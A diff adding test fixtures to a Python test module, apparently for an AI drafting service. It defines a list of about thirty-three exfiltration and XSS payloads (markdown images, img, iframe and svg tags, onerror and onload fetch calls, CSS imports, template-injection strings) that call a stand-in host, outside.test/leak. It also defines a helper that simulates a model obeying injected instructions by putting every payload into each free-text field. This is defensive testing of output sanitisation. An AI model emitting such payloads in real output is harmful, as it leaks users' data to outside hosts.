@@ -434,6 +434,67 @@ def linted(words: str, place: int = 0) -> LintedGoal:
     )  # fmt: skip
 
 
+def poisoned(value: Any, poison: str) -> Any:
+    """Put the poison at the end of every free text of a result."""
+    if isinstance(value, dict):
+        return {k: v if k in _FIXED else poisoned(v, poison) for k, v in value.items()}
+    if isinstance(value, list | tuple):
+        return tuple(poisoned(v, poison) for v in value)
+    return value + poison if isinstance(value, str) else value
+
+
+_FIXED = {
+    "version", "status", "language", "kind", "ambition", "direction", "severity", "origin", "slot", "field", "gates",
+    "scorecards", "usage", "timings", "date", "deadline", "readout", "value",
+}  # fmt: skip
+
+
+OUTSIDE = "https://outside.test/leak"
+LEAKS = (
+    f"![a]({OUTSIDE}?q=1)",
+    f"[a]({OUTSIDE}?q=2)",
+    f"<img src={OUTSIDE}?q=3>",
+    f'<img srcset="{OUTSIDE}?q=4 1x">',
+    f"<svg><image href={OUTSIDE}?q=5></svg>",
+    f"<svg><use href={OUTSIDE}?q=6></svg>",
+    f"<video src={OUTSIDE}?q=7 autoplay>",
+    f"<audio src={OUTSIDE}?q=8 autoplay>",
+    f"<iframe src={OUTSIDE}?q=9></iframe>",
+    f"<object data={OUTSIDE}?q=10>",
+    f"<embed src={OUTSIDE}?q=11>",
+    f"<link rel=stylesheet href={OUTSIDE}?q=12>",
+    f"<style>@import '{OUTSIDE}?q=13'</style>",
+    f"<p style='background:url({OUTSIDE}?q=14)'>x</p>",
+    f"<form action={OUTSIDE}?q=15><button>go</button></form>",
+    f"<script>fetch('{OUTSIDE}?q=16')</script>",
+    f"<img src=x onerror=fetch('{OUTSIDE}?q=17')>",
+    f"<svg onload=fetch('{OUTSIDE}?q=18')>",
+    f"<body onload=fetch('{OUTSIDE}?q=19')>",
+    f"${{fetch('{OUTSIDE}?q=20')}}",
+    f"`;fetch('{OUTSIDE}?q=21');`",
+    f"{{{{fetch('{OUTSIDE}?q=22')}}}}",
+    f"{{{{{{x}}}}}}<img src={OUTSIDE}?q=23>",
+    f'"><img src={OUTSIDE}?q=24>',
+    f"' onfocus=fetch('{OUTSIDE}?q=25') autofocus x='",
+    f"</textarea><img src={OUTSIDE}?q=26>",
+    f"<meta http-equiv=refresh content='0;url={OUTSIDE}?q=27'>",
+    f"<base href={OUTSIDE}?q=28>",
+    f"[a]: {OUTSIDE}?q=29\n![a][a]",
+    f"<a href={OUTSIDE}?q=30 ping={OUTSIDE}?q=31>x</a>",
+    f"&lt;img src={OUTSIDE}?q=32&gt;",
+    f"\\u003cimg src={OUTSIDE}?q=33\\u003e",
+)
+
+
+def obedient() -> DraftResult:
+    """The draft of a model that does what every injection says: all leaks in every free text."""
+    clean = result("en", conflict=True)
+    bad = poisoned(clean.model_dump(), " " + " ".join(LEAKS))
+    bad["verdict"]["scorecards"] = clean.verdict.scorecards
+    bad["verdict"]["gates"] = (GateResult(name="g", passed=False, why=LEAKS[2]),)
+    return DraftResult.model_validate(bad)
+
+
 class FakeBackend:
     """Answers at once, or slowly, in the language of the aim."""
 
